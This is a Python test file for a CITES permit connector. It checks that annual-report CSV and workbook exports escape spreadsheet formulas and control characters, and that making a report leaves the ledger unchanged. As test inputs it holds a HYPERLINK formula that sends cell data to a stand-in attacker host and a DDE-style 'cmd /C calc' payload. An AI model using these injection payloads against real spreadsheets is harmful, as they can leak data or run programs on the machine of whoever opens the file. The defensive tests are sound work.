"""Text from outside cannot run in the Management Authority's spreadsheet.

A permit system (or whoever forged its message) writes the permit line's texts; the annual
report copies them into a CSV and a workbook that someone opens in a spreadsheet. A cell
``=HYPERLINK(...)`` must arrive as text, not as a formula that fetches or sends something;
a control character must not break the workbook. And making the report changes nothing in
the ledger.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
from click.testing import CliRunner

from cites_connector.app.application import build_application
from cites_connector.app.settings import load_settings
from cites_connector.cli.main import cli
from cites_connector.domain.declarations import Flow
from cites_connector.domain.permits import ConsignmentPolicy, Party, Permit, PermitLine, PermitType
from cites_connector.mappings.annual_report_files import ReportAbout, write_csv, write_xlsx
from cites_connector.services.annual_report import AnnualReportRow
from tests.builders import declaration, item
from tests.hostile.ledger_dump import ledger_dump

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"25GH000077")'
ROW = AnnualReportRow(
    2026, "II", "Python regius", "Reptilia", "Serpentes", "Pythonidae", "Python", "LIV",
    Decimal(4), "", "ZA", "NA", "GH", "26NA000124", "", "25GH000077", "T", "C",
)  # fmt: skip


def test_a_formula_in_a_permit_line_is_text_in_the_csv_and_the_workbook(tmp_path, monkeypatch):
    monkeypatch.setenv("CONNECTOR_HOME_COUNTRY", "NA")
    monkeypatch.setenv("CONNECTOR_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("CONNECTOR_LOGGING__LEVEL", "WARNING")
    runner = CliRunner()
    assert runner.invoke(cli, ["migrate"]).exit_code == 0
    app = build_application(load_settings(), clock=lambda: datetime(2026, 5, 5, 9, tzinfo=UTC))
    buyer = Party("Highveld Reptiles (Pty) Ltd", "ZA")
    forged = PermitLine(
        "A", "Python regius", Decimal(10), appendix="II", source="C", term="LIV",
        origin_country="GH", origin_permit_number=FORMULA,
    )  # fmt: skip
    app.permits.apply(
        Permit(
            "26NA000124", "NA", 1, PermitType.RE_EXPORT, date(2026, 4, 1), date(2026, 9, 30),
            (forged,), consignment_policy=ConsignmentPolicy.MULTIPLE,
            exporter=Party("Okavango Reptile Exports CC", "NA"), importer=buyer, purpose="T",
        )
    )  # fmt: skip
    cleared = app.clearance.clear(
        "R-1", 1,
        declaration(item(1, "01062000", cites="26NA000124", specimens=4), flow=Flow.RE_EXPORT,
                    on=date(2026, 5, 5), destination_country="ZA", consignee=buyer),
    )  # fmt: skip
    assert cleared.decision.decision.value == "CLEARED"
    before = ledger_dump(app.engine)

    shown = runner.invoke(cli, ["report", "annual", "--year", "2026"])
    assert shown.exit_code == 0, shown.output
    (row,) = list(csv.reader(io.StringIO(shown.output)))[1:]
    assert row[15] == "'" + FORMULA

    path = tmp_path / "r.xlsx"
    made = runner.invoke(
        cli, ["report", "annual", "--year", "2026", "--format", "xlsx", "--output", str(path)]
    )
    assert made.exit_code == 0, made.output
    cell = openpyxl.load_workbook(path)["Annual report"]["P2"]
    assert cell.data_type == "s" and cell.value == FORMULA
    assert ledger_dump(app.engine) == before
    app.close()


def test_control_characters_are_escaped_not_a_broken_workbook(tmp_path):
    hostile = replace(ROW, taxon="Python regius\x1b[2J\x07", export_permit="26NA\x00124")
    about = ReportAbout("NA", 2026, datetime(2027, 1, 5, tzinfo=UTC), "0", "UTC")
    path = tmp_path / "r.xlsx"
    with path.open("wb") as stream:
        write_xlsx([hostile], about, stream)
    sheet = openpyxl.load_workbook(path)["Annual report"]
    assert sheet["C2"].value == "Python regius\\x1b[2J\\x07"
    assert sheet["N2"].value == "26NA\\x00124"
    text = io.StringIO()
    write_csv([replace(ROW, purpose="@SUM(1+1)*cmd|' /C calc'!A0", source="-2+3")], text)
    (row,) = list(csv.reader(io.StringIO(text.getvalue())))[1:]
    assert row[16:] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
